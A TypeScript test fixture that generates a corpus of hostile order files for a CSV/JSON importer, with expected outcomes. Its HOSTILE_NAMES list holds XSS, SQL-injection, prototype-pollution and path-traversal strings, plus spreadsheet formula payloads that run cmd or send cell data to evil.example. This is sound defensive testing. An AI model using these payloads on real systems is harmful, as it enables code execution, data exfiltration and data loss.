/**
 * The hostile-input corpus: order files as people really send them, and worse. Each file says
 * what makes it hostile and what a correct load does with it: load (with the counts and the
 * values that must come through unchanged) or fail with one of the listed codes, naming the file.
 *
 * Pure and isomorphic (no Node or DOM import): the Node test, the browser test and
 * `scripts/hostile-corpus.mjs` (which writes the files to a folder) all build it here.
 * Deterministic: no clock, no random source.
 */
import type { IngestErrorCode } from '../../src/data/ingest/ingest-error.js';
import type { IngestOptions, RejectedRow, RejectReason } from '../../src/data/ingest/types.js';

export interface LoadExpectation {
  rowsRead?: number;
  rowsLoaded?: number;
  rowsRejected?: number;
  customers?: number;
  /** Customer ids that must be stored exactly as written. */
  ids?: string[];
  /** Reasons the rejected rows must be given (each at least once). */
  reasons?: RejectReason[];
  /** Total amount loaded (net of returns), to the cent. */
  totalAmount?: number;
  /** The first and last order dates. */
  firstOrder?: string;
  lastOrder?: string;
  /** Rejected rows that must be among the report's samples (the fields given). */
  rejects?: Partial<RejectedRow>[];
  /** Codes of notices the report must carry (`ingest.utf8-repaired`...). */
  notices?: string[];
}

export interface HostileFile {
  name: string;
  bytes: Uint8Array;
  /** What makes it hostile. */
  about: string;
  /** The family it belongs to (for the report). */
  family: string;
  expect: { load: LoadExpectation } | { fail: readonly IngestErrorCode[] };
  /** Load options, as a user who mapped the columns by hand would give them. */
  options?: IngestOptions;
}

const enc = new TextEncoder();
const utf8 = (s: string): Uint8Array => enc.encode(s);

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** One byte per character (the text must be within U+0000..U+00FF). */
function latin1(s: string): Uint8Array {
  return Uint8Array.from(s, (c) => {
    const code = c.charCodeAt(0);
    if (code > 0xff) throw new Error(`not Latin-1: ${c}`);
    return code;
  });
}

/** Windows-1252: Latin-1 plus the printable characters it puts at 0x80..0x9F. */
const CP1252_HIGH: Record<string, number> = { '€': 0x80, '‚': 0x82, '„': 0x84, '…': 0x85, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97, 'œ': 0x9c, 'Œ': 0x8c, 'Š': 0x8a, 'Ž': 0x8e, 'Ÿ': 0x9f };
function cp1252(s: string): Uint8Array {
  return Uint8Array.from(s, (c) => CP1252_HIGH[c] ?? latin1(c)[0]!);
}

function utf16(s: string, endian: 'le' | 'be', bom = true): Uint8Array {
  const out = new Uint8Array((s.length + (bom ? 1 : 0)) * 2);
  const view = new DataView(out.buffer);
  let at = 0;
  if (bom) {
    view.setUint16(0, 0xfeff, endian === 'le');
    at = 2;
  }
  for (let i = 0; i < s.length; i++, at += 2) view.setUint16(at, s.charCodeAt(i), endian === 'le');
  return out;
}

/** CRC-32 (the zip and gzip checksum). */
function crc32(bytes: Uint8Array): number {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

/** A gzip member with stored (uncompressed) deflate blocks: valid gzip, no compressor needed. */
export function gzipStored(data: Uint8Array): Uint8Array {
  const blocks: Uint8Array[] = [];
  for (let at = 0; at < data.length || blocks.length === 0; at += 0xffff) {
    const chunk = data.subarray(at, at + 0xffff);
    const last = at + 0xffff >= data.length ? 1 : 0;
    blocks.push(Uint8Array.of(last, chunk.length & 0xff, chunk.length >> 8, ~chunk.length & 0xff, (~chunk.length >> 8) & 0xff), chunk);
  }
  const trailer = new Uint8Array(8);
  const view = new DataView(trailer.buffer);
  view.setUint32(0, crc32(data), true);
  view.setUint32(4, data.length >>> 0, true);
  return concat(Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff), ...blocks, trailer);
}

/** A zip archive holding one stored file. */
function zipOne(name: string, data: Uint8Array): Uint8Array {
  const n = utf8(name);
  const crc = crc32(data);
  const local = new Uint8Array(30);
  const lv = new DataView(local.buffer);
  lv.setUint32(0, 0x04034b50, true);
  lv.setUint16(4, 20, true);
  lv.setUint32(14, crc, true);
  lv.setUint32(18, data.length, true);
  lv.setUint32(22, data.length, true);
  lv.setUint16(26, n.length, true);
  const central = new Uint8Array(46);
  const cv = new DataView(central.buffer);
  cv.setUint32(0, 0x02014b50, true);
  cv.setUint16(4, 20, true);
  cv.setUint16(6, 20, true);
  cv.setUint32(16, crc, true);
  cv.setUint32(20, data.length, true);
  cv.setUint32(24, data.length, true);
  cv.setUint16(28, n.length, true);
  const end = new Uint8Array(22);
  const ev = new DataView(end.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, 1, true);
  ev.setUint16(10, 1, true);
  ev.setUint32(12, central.length + n.length, true);
  ev.setUint32(16, local.length + n.length + data.length, true);
  return concat(local, n, data, central, n, end);
}

/** Deterministic pseudo-random bytes (xorshift), for "binary" files. */
function noise(length: number, seed: number): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

const HEADER = 'customer_id,order_date,amount';
/** Three good rows: the body most files are built around. */
const GOOD = ['A,2024-01-05,10.00', 'B,2024-02-06,20.00', 'C,2024-03-07,30.00'];
const lines = (...ls: string[]) => ls.join('\n') + '\n';

/** The names and values that try to become markup, formulas, SQL or code somewhere downstream. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "'); DROP TABLE orders;--",
  'Robert"); DROP TABLE orders; --',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  'constructor',
  '\u202eevil\u202c.exe',
  'zero\u200bwidth',
  'e\u0301mile',
  '😀 emoji',
  '%s%s%n',
  '../../etc/passwd',
];

/** A CSV field, quoted when it has to be. */
export function csvField(v: string): string {
  return /[",\n\r]/.test(v) || v !== v.trim() ? `"${v.replace(/"/g, '""')}"` : v;
}

export function hostileCorpus(): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (family: string, name: string, about: string, bytes: Uint8Array | string, expect: HostileFile['expect'], options?: IngestOptions) =>
    files.push({ family, name, about, bytes: typeof bytes === 'string' ? utf8(bytes) : bytes, expect, ...(options ? { options } : {}) });
  const ok = (e: LoadExpectation = {}): HostileFile['expect'] => ({ load: e });
  const fail = (...codes: IngestErrorCode[]): HostileFile['expect'] => ({ fail: codes });

  // --- Encodings ---------------------------------------------------------------------------
  const accented = ['José,2024-01-05,10.00', 'Zoë,2024-02-06,20.00', 'François,2024-03-07,30.00'];
  add('encoding', 'latin1.csv', 'Latin-1 names', latin1(lines(HEADER, ...accented)), ok({ rowsLoaded: 3, ids: ['José', 'Zoë', 'François'] }));
  add('encoding', 'cp1252-quotes.csv', 'Windows-1252 curly quotes and euro sign in names', cp1252(lines(HEADER, '“Café” Ltd,2024-01-05,10.00', 'Œuvre–Co €,2024-02-06,20.00')), ok({ rowsLoaded: 2, ids: ['“Café” Ltd', 'Œuvre–Co €'] }));
  add('encoding', 'utf16le-bom.csv', 'UTF-16 little-endian with BOM (Excel "Unicode text")', utf16(lines(HEADER, ...accented), 'le'), ok({ rowsLoaded: 3, ids: ['José', 'Zoë', 'François'] }));
  add('encoding', 'utf16be-bom.csv', 'UTF-16 big-endian with BOM', utf16(lines(HEADER, ...accented), 'be'), ok({ rowsLoaded: 3, ids: ['José', 'Zoë', 'François'] }));
  add('encoding', 'utf16le-tabs.txt', 'UTF-16LE tab-separated, as Excel saves "Unicode text"', utf16(lines('customer_id\torder_date\tamount', 'José\t2024-01-05\t10.00', 'Ana\t2024-02-06\t20.00'), 'le'), ok({ rowsLoaded: 2, ids: ['José', 'Ana'] }));
  add('encoding', 'utf8-bom.csv', 'UTF-8 with BOM', concat(Uint8Array.of(0xef, 0xbb, 0xbf), utf8(lines(HEADER, ...accented))), ok({ rowsLoaded: 3, ids: ['José', 'Zoë', 'François'] }));
  add('encoding', 'invalid-utf8.csv', 'bytes that are not UTF-8 (0xC3 0x28, 0xFF) inside otherwise UTF-8 text', concat(utf8(`${HEADER}\nJosé,2024-01-05,1\nRenée,2024-01-05,1\nZoë,2024-01-05,1\n`), Uint8Array.of(0x58, 0xc3, 0x28, 0xff), utf8(',2024-01-06,2\nB,2024-01-07,3\n')), ok({ rowsRead: 5, rowsLoaded: 5, ids: ['José', 'Renée', 'Zoë', 'X\ufffd(\ufffd'], notices: ['ingest.utf8-repaired'] }));
  add('encoding', 'invalid-utf8-late.csv', 'UTF-8 with one damaged byte after 100 kB', concat(utf8(`${HEADER}\n${'Zoë,2024-01-05,1\n'.repeat(7000)}`), Uint8Array.of(0x41, 0xff), utf8(',2024-01-06,2\n')), ok({ rowsLoaded: 7001, ids: ['Zoë', 'A\ufffd'], notices: ['ingest.utf8-repaired'] }));
  add('encoding', 'utf8-tie.csv', 'one UTF-8 letter and one stray byte: still UTF-8', concat(utf8(`${HEADER}\nJosé,2024-01-05,1\n`), Uint8Array.of(0x42, 0xff), utf8(',2024-01-06,2\n')), ok({ rowsLoaded: 2, ids: ['José', 'B\ufffd'], notices: ['ingest.utf8-repaired'] }));
  add('encoding', 'latin1-last-byte.csv', 'a Latin-1 letter as the very last byte (no final newline)', latin1('order_date,amount,customer_id\n2024-01-05,1,A\n2024-01-06,2,José'), ok({ rowsLoaded: 2, ids: ['José'] }));
  add('encoding', 'bom-late-latin1.csv', 'a UTF-8 BOM, then a Latin-1 byte after 100 kB: UTF-8 with one bad byte', concat(Uint8Array.of(0xef, 0xbb, 0xbf), utf8(`${HEADER}\n${'A,2024-01-05,1\n'.repeat(8000)}`), latin1('Müller,2024-01-06,2\n')), ok({ rowsLoaded: 8001, ids: ['M\ufffdller'], notices: ['ingest.utf8-repaired'] }));
  add('encoding', 'utf8-overlong.csv', 'an overlong UTF-8 encoding of "/" (0xC0 0xAF)', concat(utf8(`${HEADER}\n`), Uint8Array.of(0x41, 0xc0, 0xaf), utf8(',2024-01-05,1\nB,2024-01-06,2\n')), ok({ rowsRead: 2, rowsLoaded: 2 }));
  add('encoding', 'nul-in-field.csv', 'a NUL byte inside one customer id of 200 rows', concat(utf8(`${HEADER}\nA`), Uint8Array.of(0), utf8(`B,2024-01-05,1\n${'C,2024-01-06,2\n'.repeat(199)}`)), ok({ rowsRead: 200 }));
  add('encoding', 'utf16le-no-bom.csv', 'UTF-16LE without a byte-order mark', utf16(lines(HEADER, ...accented), 'le', false), fail('not-data'));
  add('encoding', 'utf8-no-bom-cjk.csv', 'Chinese, Arabic and Devanagari names without BOM', lines(HEADER, '王小明,2024-01-05,1', 'محمد,2024-01-06,2', 'अनुज,2024-01-07,3'), ok({ rowsLoaded: 3, ids: ['王小明', 'محمد', 'अनुज'] }));
  add('encoding', 'latin1-late.csv', 'Latin-1 byte only after 100 kB of ASCII', concat(utf8(`${HEADER}\n${'A,2024-01-05,1\n'.repeat(8000)}`), latin1('Müller,2024-01-06,2\n')), ok({ rowsLoaded: 8001, ids: ['Müller'], notices: ['ingest.read-as-latin1'] }));

  // --- Quoting and line breaks --------------------------------------------------------------
  add('quoting', 'embedded-newline.csv', 'a quoted name with a line break inside', lines(HEADER, '"Line\nBreak Ltd",2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsRead: 2, rowsLoaded: 2, ids: ['Line\nBreak Ltd'] }));
  add('quoting', 'doubled-quotes.csv', 'doubled quotes inside a quoted field', lines(HEADER, '"The ""Best"" Shop",2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsLoaded: 2, ids: ['The "Best" Shop'] }));
  add('quoting', 'unbalanced-quote.csv', 'an opening quote never closed, mid-file', lines(HEADER, 'A,2024-01-05,1', '"B,2024-01-06,2', 'C,2024-01-07,3', 'D,2024-01-08,4'), ok({ rowsRead: 4, rowsLoaded: 4, ids: ['"B', 'C', 'D'] }));
  add('quoting', 'quote-mid-field.csv', 'a quote in the middle of an unquoted field', lines(HEADER, 'O"Brien,2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsLoaded: 2, ids: ['O"Brien'] }));
  add('quoting', 'crlf.csv', 'Windows line endings', [HEADER, ...GOOD].join('\r\n') + '\r\n', ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('quoting', 'cr-only.csv', 'old Mac line endings (CR only)', [HEADER, ...GOOD].join('\r') + '\r', ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('quoting', 'mixed-eol.csv', 'CRLF, LF and CR line endings in one file', `${HEADER}\r\n${GOOD[0]}\n${GOOD[1]}\r\n${GOOD[2]}\n`, ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('quoting', 'gzip-mixed-eol.csv.gz', 'mixed line endings, gzipped', gzipStored(utf8(`${HEADER}\r\n${GOOD[0]}\n${GOOD[1]}\r\n${GOOD[2]}\n`)), ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('quoting', 'no-final-newline.csv', 'no line break after the last row', [HEADER, ...GOOD].join('\n'), ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('quoting', 'blank-lines.csv', 'blank lines between rows and at the end', `${HEADER}\n\n${GOOD[0]}\n\n\n${GOOD[1]}\n${GOOD[2]}\n\n\n`, ok({ rowsLoaded: 3 }));
  add('quoting', 'trailing-delimiter.csv', 'a delimiter at the end of every line', lines(`${HEADER},`, ...GOOD.map((g) => `${g},`)), ok({ rowsLoaded: 3, totalAmount: 60 }));
  add('quoting', 'stray-quote-eof.csv', 'a lone quote as the last byte', `${lines(HEADER, ...GOOD)}"`, ok({ rowsLoaded: 3 }));
  add('quoting', 'all-quoted.csv', 'every field quoted, header too', lines('"customer_id","order_date","amount"', '"A","2024-01-05","10.00"', '"B","2024-02-06","20.00"'), ok({ rowsLoaded: 2, totalAmount: 30 }));
  add('quoting', 'single-quotes.csv', "fields quoted with single quotes", lines(HEADER, "'A',2024-01-05,1", "'B, Ltd',2024-01-06,2"), ok({ rowsLoaded: 2, ids: ['A', 'B, Ltd'] }));
  add('quoting', 'escaped-backslash.csv', 'backslash-escaped quotes (not CSV, common from MySQL)', lines(HEADER, '"A \\"x\\"",2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsLoaded: 2, ids: ['A "x"'] }));

  // --- Delimiters --------------------------------------------------------------------------
  add('delimiter', 'semicolon-comma-decimals.csv', 'semicolons and decimal commas', lines('customer_id;order_date;amount', 'A;05/01/2024;10,50', 'B;06/02/2024;1.234,50', 'C;17/03/2024;3,00'), ok({ rowsLoaded: 3, totalAmount: 1248 }));
  add('delimiter', 'tabs.tsv', 'tab-separated', lines('customer_id\torder_date\tamount', 'A\t2024-01-05\t1', 'B\t2024-01-06\t2'), ok({ rowsLoaded: 2, totalAmount: 3 }));
  add('delimiter', 'pipes.txt', 'pipe-separated', lines('customer_id|order_date|amount', 'A|2024-01-05|1', 'B|2024-01-06|2'), ok({ rowsLoaded: 2, totalAmount: 3 }));
  add('delimiter', 'mixed-delimiters.csv', 'some lines use ; where the rest use ,', lines(HEADER, 'A,2024-01-05,1', 'B;2024-01-06;2', 'C,2024-01-07,3', 'D,2024-01-08,4'), ok({ rowsRead: 4, rowsLoaded: 3, rejects: [{ line: 3, reason: 'malformed_row' }] }));
  add('delimiter', 'comma-decimals-unquoted.csv', 'decimal commas in a comma-separated file, unquoted', lines(HEADER, 'A,2024-01-05,10,50', 'B,2024-01-06,2', 'C,2024-01-07,3'), ok({ rowsRead: 3, rowsLoaded: 2, rejects: [{ line: 2, reason: 'malformed_row' }] }));
  add('delimiter', 'space-aligned.txt', 'columns aligned with spaces (a printed report)', lines('customer_id   order_date   amount', 'A             2024-01-05   1', 'B             2024-01-06   2'), fail('mapping', 'nothing-loaded', 'unreadable'));

  // --- Headers -----------------------------------------------------------------------------
  add('header', 'duplicate-header.csv', 'the same column name twice', lines('customer_id,customer_id,order_date,amount', 'A,X,2024-01-05,1', 'B,Y,2024-01-06,2'), ok({ rowsLoaded: 2 }));
  add('header', 'empty-header-cell.csv', 'an empty header cell', lines('customer_id,,order_date,amount', 'A,x,2024-01-05,1', 'B,y,2024-01-06,2'), ok({ rowsLoaded: 2 }));
  add('header', 'all-headers-empty.csv', 'a header line of delimiters only', lines(',,', 'A,2024-01-05,1', 'B,2024-01-06,2'), fail('mapping'));
  add('header', 'all-headers-empty-mapped.csv', 'a header line of delimiters only, columns mapped by hand', lines(',,', 'A,2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsLoaded: 2 }), { mapping: { customer_id: 'column0', order_date: 'column1', amount: 'column2' } });
  add('header', 'no-header.csv', 'data with no header line', lines(...GOOD), fail('mapping'));
  add('header', 'header-repeated.csv', 'two exports concatenated: the header again mid-file', lines(HEADER, GOOD[0]!, HEADER, GOOD[1]!), ok({ rowsRead: 3, rowsLoaded: 2 }));
  add('header', 'header-padded.csv', 'header names with spaces and odd case', lines('  Customer ID , ORDER DATE ,Amount  ', 'A,2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsLoaded: 2 }));
  add('header', 'header-very-long.csv', 'a header name of 10,000 characters', lines(`customer_id,order_date,amount,${'x'.repeat(10_000)}`, 'A,2024-01-05,1,n', 'B,2024-01-06,2,n'), ok({ rowsLoaded: 2 }));
  add('header', 'header-sql.csv', 'SQL in header names, not mapped', lines('"customer_id""; DROP TABLE orders;--",order_date,"amount) FROM x; --"', 'A,2024-01-05,1', 'B,2024-01-06,2'), fail('mapping'));
  add('header', 'header-sql-mapped.csv', 'SQL in header names, mapped by hand', lines('"c""; DROP TABLE orders;--","d\' OR 1=1 --","a) FROM x; --"', 'A,2024-01-05,1', 'B,2024-01-06,2'), ok({ rowsLoaded: 2, ids: ['A', 'B'] }), { mapping: { customer_id: 'c"; DROP TABLE orders;--', order_date: "d' OR 1=1 --", amount: 'a) FROM x; --' } });
  add('header', 'header-html.csv', 'markup in header names', lines('<b>customer_id</b>,<img src=x onerror=alert(1)>,amount', 'A,2024-01-05,1', 'B,2024-01-06,2'), ok({}));
  add('header', 'header-proto.csv', 'header names that are object keys (__proto__, constructor)', lines('__proto__,constructor,customer_id,order_date,amount', 'p,c,A,2024-01-05,1', 'p,c,B,2024-01-06,2'), ok({ rowsLoaded: 2, ids: ['A', 'B'] }));
  add('header', 'title-lines.csv', 'two title lines above the header', lines('Sales export', 'Generated 2024-04-01', HEADER, ...GOOD), ok({ rowsLoaded: 3 }));
  add('header', 'header-numbers.csv', 'a header of numbers', lines('1,2,3', 'A,2024-01-05,1', 'B,2024-01-06,2'), fail('mapping'));

  // --- Shape -------------------------------------------------------------------------------
  add('shape', 'empty.csv', '0 bytes', new Uint8Array(0), fail('empty'));
  add('shape', 'header-only.csv', 'a header and no rows', lines(HEADER), fail('header-only'));
  add('shape', 'newlines-only.csv', 'nothing but line breaks', '\n\n\n\n', fail('empty', 'header-only', 'unreadable', 'mapping'));
  add('shape', 'whitespace-only.csv', 'nothing but spaces and tabs', '   \t  \n  \n', fail('empty', 'header-only', 'unreadable', 'mapping', 'nothing-loaded'));
  add('shape', 'one-row.csv', 'a single row', lines(HEADER, GOOD[0]!), ok({ rowsRead: 1, rowsLoaded: 1, customers: 1 }));
  add('shape', 'one-column.csv', 'one column of customer ids', lines('customer_id', 'A', 'B', 'C'), fail('mapping'));
  add('shape', 'one-cell.csv', 'one value, no header', 'A', fail('header-only', 'mapping', 'empty'));
  add('shape', 'ragged.csv', 'rows with too many and too few fields', lines(HEADER, 'A,2024-01-05,1,extra,fields', 'B,2024-01-06', 'C,2024-01-07,3'), ok({ rowsRead: 3 }));
  add('shape', 'wide.csv', '1,000 columns', lines(`${HEADER},${Array.from({ length: 997 }, (_, i) => `c${i}`).join(',')}`, `A,2024-01-05,1,${'0,'.repeat(996)}0`, `B,2024-01-06,2,${'0,'.repeat(996)}0`), ok({ rowsLoaded: 2 }));
  add('shape', 'two-columns.csv', 'only a customer and a date: no amount', lines('customer_id,order_date', 'A,2024-01-05', 'B,2024-01-06'), fail('mapping'));
  add('shape', 'only-delimiters.csv', 'rows of empty fields', lines(HEADER, ',,', ',,', ',,'), fail('nothing-loaded', 'no-dates', 'mapping', 'header-only'));

  // --- Long fields -------------------------------------------------------------------------
  const longId = 'L'.repeat(1_000_000);
  add('long', 'long-id.csv', 'a customer id of 1,000,000 characters', lines(HEADER, `${longId},2024-01-05,1`, 'B,2024-01-06,2'), ok({ rowsRead: 2 }));
  add('long', 'long-note.csv', 'a 200 kB note column', lines(`${HEADER},note`, `A,2024-01-05,1,${'n'.repeat(200_000)}`, 'B,2024-01-06,2,short'), ok({ rowsLoaded: 2 }));
  add('long', 'long-amount.csv', 'an amount of 5,000 digits', lines(HEADER, `A,2024-01-05,${'9'.repeat(5000)}`, 'B,2024-01-06,2'), ok({ rowsRead: 2, rowsLoaded: 1, totalAmount: 2, reasons: ['number_out_of_range'] }));
  add('long', 'long-line-no-breaks.csv', '3 MB with no line break', `${HEADER},${'x'.repeat(3_000_000)}`, fail('header-only', 'mapping', 'unreadable', 'nothing-loaded'));
  add('long', 'long-quoted-multiline.csv', 'a quoted field spanning 5,000 lines', lines(`${HEADER},note`, `A,2024-01-05,1,"${'line\n'.repeat(5000)}"`, 'B,2024-01-06,2,x'), ok({ rowsRead: 2 }));

  // --- Names that try to become code -------------------------------------------------------
  const names = HOSTILE_NAMES.map((n, i) => `${csvField(n)},2024-01-${String(5 + i).padStart(2, '0')},${i + 1}`);
  add('injection', 'hostile-names.csv', 'markup, formulas, SQL, template and prototype keys as customer ids', lines(HEADER, ...names), ok({ rowsLoaded: HOSTILE_NAMES.length, customers: HOSTILE_NAMES.length, ids: [...HOSTILE_NAMES] }));
  HOSTILE_NAMES.slice(0, 12).forEach((n, i) => {
    add('injection', `hostile-name-${String(i + 1).padStart(2, '0')}.csv`, `customer id ${JSON.stringify(n)}`, lines(HEADER, `${csvField(n)},2024-01-05,1`, `${csvField(n)},2024-02-05,2`, 'Plain,2024-01-06,3'), ok({ rowsLoaded: 3, customers: 2, ids: [n, 'Plain'] }));
  });
  add('injection', 'hostile-json.json', 'hostile names and keys in JSON records', JSON.stringify(HOSTILE_NAMES.map((n, i) => ({ customer_id: n, order_date: '2024-01-05', amount: i + 1, ['<img src=x onerror=alert(1)>']: n }))), ok({ rowsLoaded: HOSTILE_NAMES.length, ids: [...HOSTILE_NAMES] }));
  add('injection', 'json-proto.json', 'a JSON record with a __proto__ key', '[{"customer_id":"A","order_date":"2024-01-05","amount":1,"__proto__":{"polluted":true}},{"customer_id":"B","order_date":"2024-01-06","amount":2}]', ok({ rowsLoaded: 2 }));
  add('injection', 'formula-amounts.csv', 'formulas where the amounts should be', lines(HEADER, 'A,2024-01-05,=1+1', 'B,2024-01-06,+2', 'C,2024-01-07,=SUM(A1:A9)', 'D,2024-01-08,4'), ok({ rowsRead: 4, reasons: ['non_numeric_amount'] }));
  add('injection', 'tab-prefixed-formula.csv', 'a formula hidden behind a tab or a carriage return', lines(HEADER, '"\t=1+1",2024-01-05,1', '"\r=2+2",2024-01-06,2'), ok({ rowsLoaded: 2 }));

  // --- Numbers -----------------------------------------------------------------------------
  // Ten good rows after the bad ones: a column of mostly words is not an amount column at all.
  const amounts = (...as: string[]) => lines(HEADER, ...as.map((a, i) => `C${i},2024-01-${String(5 + i).padStart(2, '0')},${a}`), ...Array.from({ length: 10 }, (_, i) => `OK${i},2024-02-01,0.1`));
  add('number', 'nan.csv', 'NaN amounts', amounts('NaN', 'nan', 'NAN'), ok({ rowsRead: 13, rowsLoaded: 10, reasons: ['non_numeric_amount'] }));
  add('number', 'infinity.csv', 'Infinity amounts', amounts('Infinity', '-Infinity', 'inf', '∞'), ok({ rowsRead: 14, rowsLoaded: 10, reasons: ['non_numeric_amount'] }));
  add('number', 'huge-amount.csv', '1e308 and 1e309', amounts('1e308', '1e309', '-1e308'), ok({ rowsRead: 13, rowsLoaded: 10, totalAmount: 1, rejects: [{ line: 3, reason: 'number_out_of_range', column: 'amount', value: '1e309' }] }));
  add('number', 'quantity-out-of-range.csv', 'an infinite quantity, and a product of a billion units at a million each', lines('customer_id,order_date,quantity,unit_price', 'A,2024-01-05,1e309,2', 'B,2024-01-06,2,3', 'C,2024-01-07,1000000000,1000000'), ok({ rowsRead: 3, rowsLoaded: 1, totalAmount: 6, rejects: [{ line: 2, reason: 'number_out_of_range', column: 'quantity', value: '1e309' }, { line: 4, reason: 'number_out_of_range', column: 'quantity' }] }));
  add('number', 'margin-infinite.csv', 'an infinite margin beside a good amount', lines('customer_id,order_date,amount,margin', 'A,2024-01-05,10,1e309', 'B,2024-01-06,5,2'), ok({ rowsRead: 2, rowsLoaded: 1, rejects: [{ line: 2, reason: 'number_out_of_range', column: 'margin' }] }));
  add('number', 'review-infinite.csv', 'an infinite review score (optional: left empty, the row loads)', lines('customer_id,order_date,amount,review_score', 'A,2024-01-05,10,1e400', 'B,2024-01-06,5,4'), ok({ rowsRead: 2, rowsLoaded: 2 }));
  add('number', 'negative-amounts.csv', 'negative amounts (returns)', amounts('-10', '-0.01', '20'), ok({ rowsRead: 13, rowsLoaded: 13 }));
  add('number', 'zero-amounts.csv', 'zero and negative zero', amounts('0', '-0', '0.00'), ok({ rowsRead: 13, rowsLoaded: 13, totalAmount: 1 }));
  add('number', 'currency-symbols.csv', 'currency symbols and codes', amounts('$10.00', '€20', '30 EUR', '£1,000.50'), ok({ rowsRead: 14, rowsLoaded: 13, totalAmount: 61, rejects: [{ line: 5, reason: 'malformed_row' }] }));
  add('number', 'thousands-spaces.csv', 'thousands separated by spaces (and no-break spaces)', lines('customer_id;order_date;amount', 'A;2024-01-05;1 234,50', 'B;2024-01-06;2\u00a0000,00', 'C;2024-01-07;3'), ok({ rowsRead: 3, rowsLoaded: 3, totalAmount: 3237.5 }));
  add('number', 'accounting-negative.csv', 'accounting negatives in parentheses and trailing minus', amounts('(12.00)', '12-', '5'), ok({ rowsRead: 13, rowsLoaded: 12, totalAmount: -6, rejects: [{ line: 3, reason: 'non_numeric_amount', value: '12-' }] }));
  add('number', 'hex-amounts.csv', 'hexadecimal and binary literals', amounts('0x10', '0b101', '1_000'), ok({ rowsRead: 13 }));
  add('number', 'many-decimals.csv', 'amounts with 20 decimals', amounts('0.12345678901234567890', '1.99999999999999999999'), ok({ rowsRead: 12, rowsLoaded: 12 }));
  add('number', 'empty-amounts.csv', 'empty and blank amounts', amounts('', ' ', '""'), ok({ rowsRead: 13, rowsLoaded: 10, reasons: ['missing_amount'] }));
  add('number', 'amount-text.csv', 'words where amounts should be', amounts('ten', 'N/A', '-', 'null', 'NULL'), ok({ rowsRead: 15, rowsLoaded: 10 }));
  add('number', 'percent-amounts.csv', 'percentages and exponents', amounts('10%', '1E2', '1e-2'), ok({ rowsRead: 13 }));

  // --- Dates -------------------------------------------------------------------------------
  const dated = (...ds: string[]) => lines(HEADER, ...ds.map((d, i) => `C${i},${d},${i + 1}`));
  add('date', 'year-1900.csv', 'dates in 1900', dated('1900-01-01', '1900-02-28', '2024-01-05'), ok({ rowsRead: 3, firstOrder: '1900-01-01', notices: ['ingest.far-dates'] }));
  add('date', 'year-2999.csv', 'dates in 2999', dated('2999-12-31', '2024-01-05', '2024-01-06'), ok({ rowsRead: 3, rowsLoaded: 3, notices: ['ingest.far-dates'] }));
  add('date', 'feb-31.csv', '31/02 and 30/02', dated('31/02/2024', '30/02/2024', '15/03/2024', '16/03/2024'), ok({ rowsRead: 4, reasons: ['unparseable_date'] }));
  add('date', 'feb-29.csv', '29 February in leap and common years', dated('2024-02-29', '2023-02-29', '2024-03-01'), ok({ rowsRead: 3, rowsLoaded: 2, reasons: ['unparseable_date'] }));
  add('date', 'mixed-formats.csv', 'ISO, slashes, dots and month names in one column', dated('2024-01-05', '06/01/2024', '07.01.2024', '8 Jan 2024', 'January 9, 2024'), ok({ rowsRead: 5 }));
  add('date', 'time-zones.csv', 'timestamps with time zones', dated('2024-01-05T10:00:00Z', '2024-01-06T23:30:00+05:30', '2024-01-07T01:00:00-08:00', '2024-01-08 12:00:00 UTC'), ok({ rowsRead: 4 }));
  add('date', 'excel-serial.csv', 'Excel serial day numbers', dated('45296', '45297', '45298'), fail('mapping'));
  add('date', 'epoch-seconds.csv', 'Unix timestamps in seconds', dated('1704412800', '1704499200', '1704585600'), fail('mapping'));
  add('date', 'two-digit-years.csv', 'two-digit years', dated('05/01/24', '06/01/24', '17/01/24'), ok({ rowsRead: 3 }));
  add('date', 'month-13.csv', 'month 13 and day 32', dated('2024-13-01', '2024-01-32', '2024-01-05', '2024-01-06'), ok({ rowsRead: 4, rowsLoaded: 2, reasons: ['unparseable_date'] }));
  add('date', 'zero-date.csv', 'the MySQL zero date', dated('0000-00-00', '2024-01-05', '2024-01-06'), ok({ rowsRead: 3, rowsLoaded: 2 }));
  add('date', 'empty-dates.csv', 'empty dates', dated('', '2024-01-05', ' ', '2024-01-06'), ok({ rowsRead: 4, rowsLoaded: 2, reasons: ['missing_date'] }));
  add('date', 'before-1970.csv', 'dates before 1970', dated('1969-12-31', '1955-06-15', '2024-01-05'), ok({ rowsRead: 3, rowsLoaded: 3, firstOrder: '1955-06-15' }));
  add('date', 'ambiguous-only.csv', 'only dates that read either way (01/02/2024)', dated('01/02/2024', '03/04/2024', '05/06/2024'), ok({ rowsRead: 3 }));
